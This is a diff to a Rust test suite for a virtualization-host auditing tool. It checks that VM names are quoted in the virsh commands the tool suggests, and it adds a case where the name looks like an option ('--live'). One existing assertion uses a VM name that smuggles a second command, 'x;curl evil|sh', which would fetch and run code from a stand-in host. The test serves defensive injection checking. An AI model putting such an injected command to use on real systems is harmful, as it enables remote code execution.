@@ -425,6 +425,12 @@ fn names_are_quoted_in_commands() {
     let found = audit(&host_of(&[vm]));
     let change = found.iter().find_map(|f| f.change.as_ref().filter(|c| c.contains("vcpupin"))).unwrap();
     assert!(change.contains("virsh vcpupin 'x;curl evil|sh' 0"), "{change}");
+    // virsh would take the name for an option.
+    let xml = VM.replace("<name>web</name>", "<name>--live</name>");
+    let found = audit(&tree(&[("/etc/libvirt/qemu/web.xml", &xml)]));
+    let commands: Vec<&String> = found.iter().flat_map(|f| [&f.change, &f.undo]).flatten().collect();
+    let named: Vec<_> = commands.iter().filter(|c| c.contains("virsh")).collect();
+    assert!(!named.is_empty() && named.iter().all(|c| c.contains(" --domain=--live ")), "{named:?}");
 }
 
 #[test]
